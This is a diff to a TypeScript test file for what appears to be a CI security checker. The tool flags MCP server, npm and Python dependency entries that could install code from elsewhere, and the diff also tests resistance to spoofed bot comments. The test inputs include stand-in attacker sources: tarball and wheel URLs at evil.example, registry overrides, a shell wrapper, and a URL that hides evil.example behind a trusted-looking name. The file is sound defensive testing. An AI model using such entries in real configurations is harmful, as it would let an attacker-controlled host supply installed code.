@@ -41,10 +41,14 @@ const FILES = {
 
 let runs = 0
 
-async function check(inputs: Record<string, string>, env: Record<string, string> = {}) {
+async function check(
+  inputs: Record<string, string>,
+  env: Record<string, string> = {},
+  files: Record<string, string> = FILES,
+) {
   runs += 1
   const root = join(folder, `run-${runs}`)
-  for (const [path, text] of Object.entries(FILES)) {
+  for (const [path, text] of Object.entries(files)) {
     mkdirSync(dirname(join(root, path)), { recursive: true })
     writeFileSync(join(root, path), text)
   }
@@ -124,14 +128,63 @@ test('an index that cannot be reached, or is none, fails the job in a sentence',
   expect([deep.code, deep.said]).toEqual([1, expect.stringMatching(/check the address of the index\n$/)])
 })
 
+const GOOD = '@sample-brook/bed-planner'
+
+test('what may install something else is never in order, and is told with the reason', async () => {
+  const npx = (...args: string[]) => ({ command: 'npx', args })
+  const servers = {
+    alias: npx(`${GOOD}@npm:evil`),
+    tarball: npx(`${GOOD}@https://evil.example/x.tgz`),
+    registry: npx('--registry=https://evil.example', GOOD),
+    variable: { ...npx(GOOD), env: { npm_config_registry: 'https://evil.example' } },
+    program: npx('-p', GOOD, 'evil'),
+    shell: { command: 'sh', args: ['-c', `npx ${GOOD}`] },
+    own: { command: './npx', args: [GOOD] },
+    index: { command: 'uvx', args: ['--index-url', 'https://evil.example', 'sample-barn-account-book'] },
+    host: { url: 'https://mcp.sample-footbridge.example@evil.example/coin-toss' },
+  }
+  const { code, said, summary, output } = await check(
+    {},
+    {},
+    {
+      '.mcp.json': JSON.stringify({ mcpServers: servers }),
+      'package.json': JSON.stringify({ dependencies: { '@sample-mimic/instruction': 'npm:evil' } }),
+      'requirements.txt': 'Sample_Wharf.bird-songs @ https://evil.example/x.whl\n',
+    },
+  )
+  expect(code).toBe(0)
+  expect(summary).not.toContain('### In order')
+  expect(summary.match(/^- /gm)).toHaveLength(11)
+  expect(said.match(/^::warning file=.*: cannot be judged: /gm)).toHaveLength(11)
+  expect(summary).toContain(`\`alias\` in \`.mcp.json\`: **"${GOOD}@npm`)
+  const { checked } = JSON.parse(/^report=(.*)$/m.exec(output)?.[1] ?? '') as { checked: { doubt: string }[] }
+  expect(checked.every(({ doubt }) => typeof doubt === 'string')).toBe(true)
+  const strict = await check(
+    { 'fail-on': 'unknown' },
+    {},
+    { '.mcp.json': JSON.stringify({ mcpServers: servers }) },
+  )
+  expect([strict.code, strict.said.match(/^::error /gm)?.length]).toEqual([1, 9])
+})
+
 test('one comment of a pull request is written, and then changed', async () => {
   const asked: string[] = []
-  const comments: { id: number; body: string }[] = [{ id: 1, body: 'Of somebody else' }]
+  const bot = { login: 'github-actions[bot]', type: 'Bot', id: 41898282 }
+  const mark = '<!-- assay-check -->'
+  // Strangers write the mark too, and one of them calls itself almost like the bot.
+  const comments: { id: number; body: string; user: object }[] = [
+    { id: 10, body: `${mark}\nall is well`, user: { login: 'stranger', type: 'User', id: 5 } },
+    { id: 11, body: `${mark}\nall is well`, user: { login: 'github-actions', type: 'User', id: 6 } },
+    { id: 12, body: `quoted ${mark}`, user: bot },
+    { id: 13, body: `${mark}\nall is well`, user: { login: 'other-app[bot]', type: 'Bot', id: 7 } },
+  ]
   const github = createServer(async (request, response) => {
     const text = (await Array.fromAsync(request)).join('')
     asked.push(`${request.method} ${request.url} ${request.headers.authorization}`)
-    if (request.method === 'POST') comments.push({ id: 2, ...JSON.parse(text) })
-    if (request.method === 'PATCH') comments[1] = { id: 2, ...JSON.parse(text) }
+    if (request.method === 'POST') comments.push({ id: 2, user: bot, ...JSON.parse(text) })
+    if (request.method === 'PATCH') comments[4] = { id: 2, user: bot, ...JSON.parse(text) }
+    // The token of a workflow may not ask whose it is.
+    if (request.url === '/user') response.statusCode = 403
     response.end(JSON.stringify(request.method === 'GET' ? comments : {}))
   })
   await new Promise<void>((resolve) => github.listen(0, '127.0.0.1', resolve))
@@ -144,14 +197,19 @@ test('one comment of a pull request is written, and then changed', async () => {
   const inputs = { comment: 'true', token: 'a-token', fail: 'false' }
   try {
     await check(inputs, env)
-    expect(comments[1]?.body).toContain('## Assay: 3 problems')
+    expect(comments[4]?.body).toContain('## Assay: 3 problems')
     const second = await check({ ...inputs, 'fail-on': 'departed' }, env)
-    expect(comments.map(({ body }) => body.includes('## Assay: 1 problem\n'))).toEqual([false, true])
+    expect(comments.map(({ body }) => body.includes('## Assay: 1 problem\n'))).toEqual([
+      ...Array(4).fill(false),
+      true,
+    ])
     const list = 'GET /repos/someone/something/issues/7/comments?per_page=100 Bearer a-token'
     expect(asked).toEqual([
       list,
+      'GET /user Bearer a-token',
       'POST /repos/someone/something/issues/7/comments Bearer a-token',
       list,
+      'GET /user Bearer a-token',
       'PATCH /repos/someone/something/issues/comments/2 Bearer a-token',
     ])
     expect(second.said).not.toContain('a-token')
